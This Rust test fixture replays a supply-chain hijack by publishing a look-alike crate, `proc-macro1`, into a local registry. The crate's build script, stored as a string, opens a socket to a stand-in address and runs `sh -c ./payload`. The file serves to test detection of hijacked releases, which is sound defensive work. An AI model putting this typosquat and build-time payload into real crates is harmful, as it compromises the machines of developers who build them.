//! The payload of the arrayref hijack (August 2026), for the tests that replay it: a download
//! crate, and `proc-macro1`, one character from `proc-macro2`, whose build script spawns a
//! process and opens a socket (and mentions `Command::new` in a comment and a string, which
//! must raise nothing of their own).

use crate::{CrateSpec, LocalRegistry};

/// A publish time long past: nothing published then is "recent".
pub const OLD_PUBTIME: &str = "2024-09-14T12:24:40Z";

/// The look-alike's build script. The real spawn is on line 8; lines 4 and 6 only mention it.
pub const PAYLOAD_BUILD_RS: &str = "use std::net::TcpStream;\nuse std::process::Command;\n\n\
// Command::new(\"curl\") in a comment is not a call.\n\
fn main() {\n    let _note = \"Command::new(\\\"sh\\\")\";\n    \
let _c = TcpStream::connect(\"203.0.113.7:443\");\n    \
Command::new(\"sh\").arg(\"-c\").arg(\"./payload\").status().ok();\n}\n";

/// Publishes `downloader@0.2.7` (old) and `proc-macro1@0.1.0` (at `pubtime`), which
/// build-depends on it and runs [`PAYLOAD_BUILD_RS`]. A release that adds `proc-macro1 = "0.1"`
/// is the hijacked one.
pub fn publish_look_alike(reg: &LocalRegistry, pubtime: &str) {
    let downloader = reg.publish_crate(
        &CrateSpec::new("downloader", "0.2.7").file("src/lib.rs", "pub fn get(_: &str) {}\n"),
    );
    reg.set_pubtime(&downloader.name, &downloader.version, OLD_PUBTIME);
    let look_alike = reg.publish_crate(
        &CrateSpec::new("proc-macro1", "0.1.0")
            .build_dep("downloader", "0.2")
            .file("build.rs", PAYLOAD_BUILD_RS)
            .file("src/lib.rs", ""),
    );
    reg.set_pubtime(&look_alike.name, &look_alike.version, pubtime);
}
